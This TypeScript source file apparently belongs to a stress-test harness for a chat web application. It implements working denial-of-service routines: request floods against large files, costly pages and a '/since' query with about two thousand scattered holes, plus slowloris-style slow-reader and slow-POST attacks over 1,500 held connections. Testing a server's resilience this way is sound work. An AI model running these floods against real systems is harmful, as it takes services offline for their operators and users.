/** Attacks that only read: no session is needed for any of them. */
import { connect, type Socket } from 'node:net';
import { flood, isTaken, type Assault } from './assault.ts';
import { Client } from './client.ts';

/** Asks for the largest file and hangs up when the answer begins. */
export const files: Assault = (target, over) => {
	const client = new Client(target.url, target.address, 100);
	return flood(50, over, async () => (await client.hangUp(target.file)) < 400).finally(() => client.close());
};

/** Asks for the dearest page there is. */
export const pages: Assault = (target, over) => {
	const client = new Client(target.url, target.address);
	return flood(32, over, async () => isTaken(await client.get(target.room))).finally(() => client.close());
};

/** Asks what is new since the beginning, and for as many separate holes as an address can name. */
export const since: Assault = (target, over) => {
	const client = new Client(target.url, target.address);
	const scattered = Array.from({ length: 1_990 }, (_, i) => 2 * i + 1).join(',');
	const queries = [
		`message=${target.newest}&change=0&holes=${scattered}`,
		'message=1&change=0&holes=',
		'message=0&change=0&holes='
	];
	return flood(16, over, async (n) => isTaken(await client.get(`${target.room}/since?${queries[n % 3]}`))).finally(() =>
		client.close()
	);
};

/** Connections at once. */
const SLOW_CONNECTIONS = 1_500;

/** Asks for the dearest page over many connections, and never reads. */
export const slowReaders: Assault = (target, over) =>
	holdOpen(target, over, (socket, host) => {
		socket.pause();
		for (let times = 0; times < 4; times++) socket.write(`GET ${target.room} HTTP/1.1\r\nHost: ${host}\r\n\r\n`);
	});

/** Begins many forms, and goes on with each by a byte every now and then. */
export const slowBodies: Assault = (target, over) =>
	holdOpen(target, over, (socket, host) => {
		socket.write(
			`POST /?/join HTTP/1.1\r\nHost: ${host}\r\nOrigin: http://${host}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 400000\r\n\r\nname=`
		);
		const drip = setInterval(() => socket.write('x'), 500);
		socket.once('close', () => clearInterval(drip));
	});

/** Keeps as many connections open as it may; one that the server closes is opened again. */
async function holdOpen(
	target: Parameters<Assault>[0],
	over: () => boolean,
	begin: (socket: Socket, host: string) => void
): ReturnType<Assault> {
	const { hostname, port, host } = new URL(target.url);
	const open = new Set<Socket>();
	try {
		return await flood(SLOW_CONNECTIONS, over, async () => {
			const socket = connect({ host: hostname, port: Number(port), localAddress: target.address });
			open.add(socket);
			const ended = new Promise<void>((resolve) => socket.once('close', () => resolve()));
			socket.on('error', () => {});
			socket.once('connect', () => begin(socket, host));
			while (!over() && !socket.destroyed) await Promise.race([ended, new Promise((later) => setTimeout(later, 100))]);
			const held = !socket.destroyed;
			if (!held) await new Promise((again) => setTimeout(again, 200));
			socket.destroy();
			open.delete(socket);
			return held;
		});
	} finally {
		for (const socket of open) socket.destroy();
	}
}
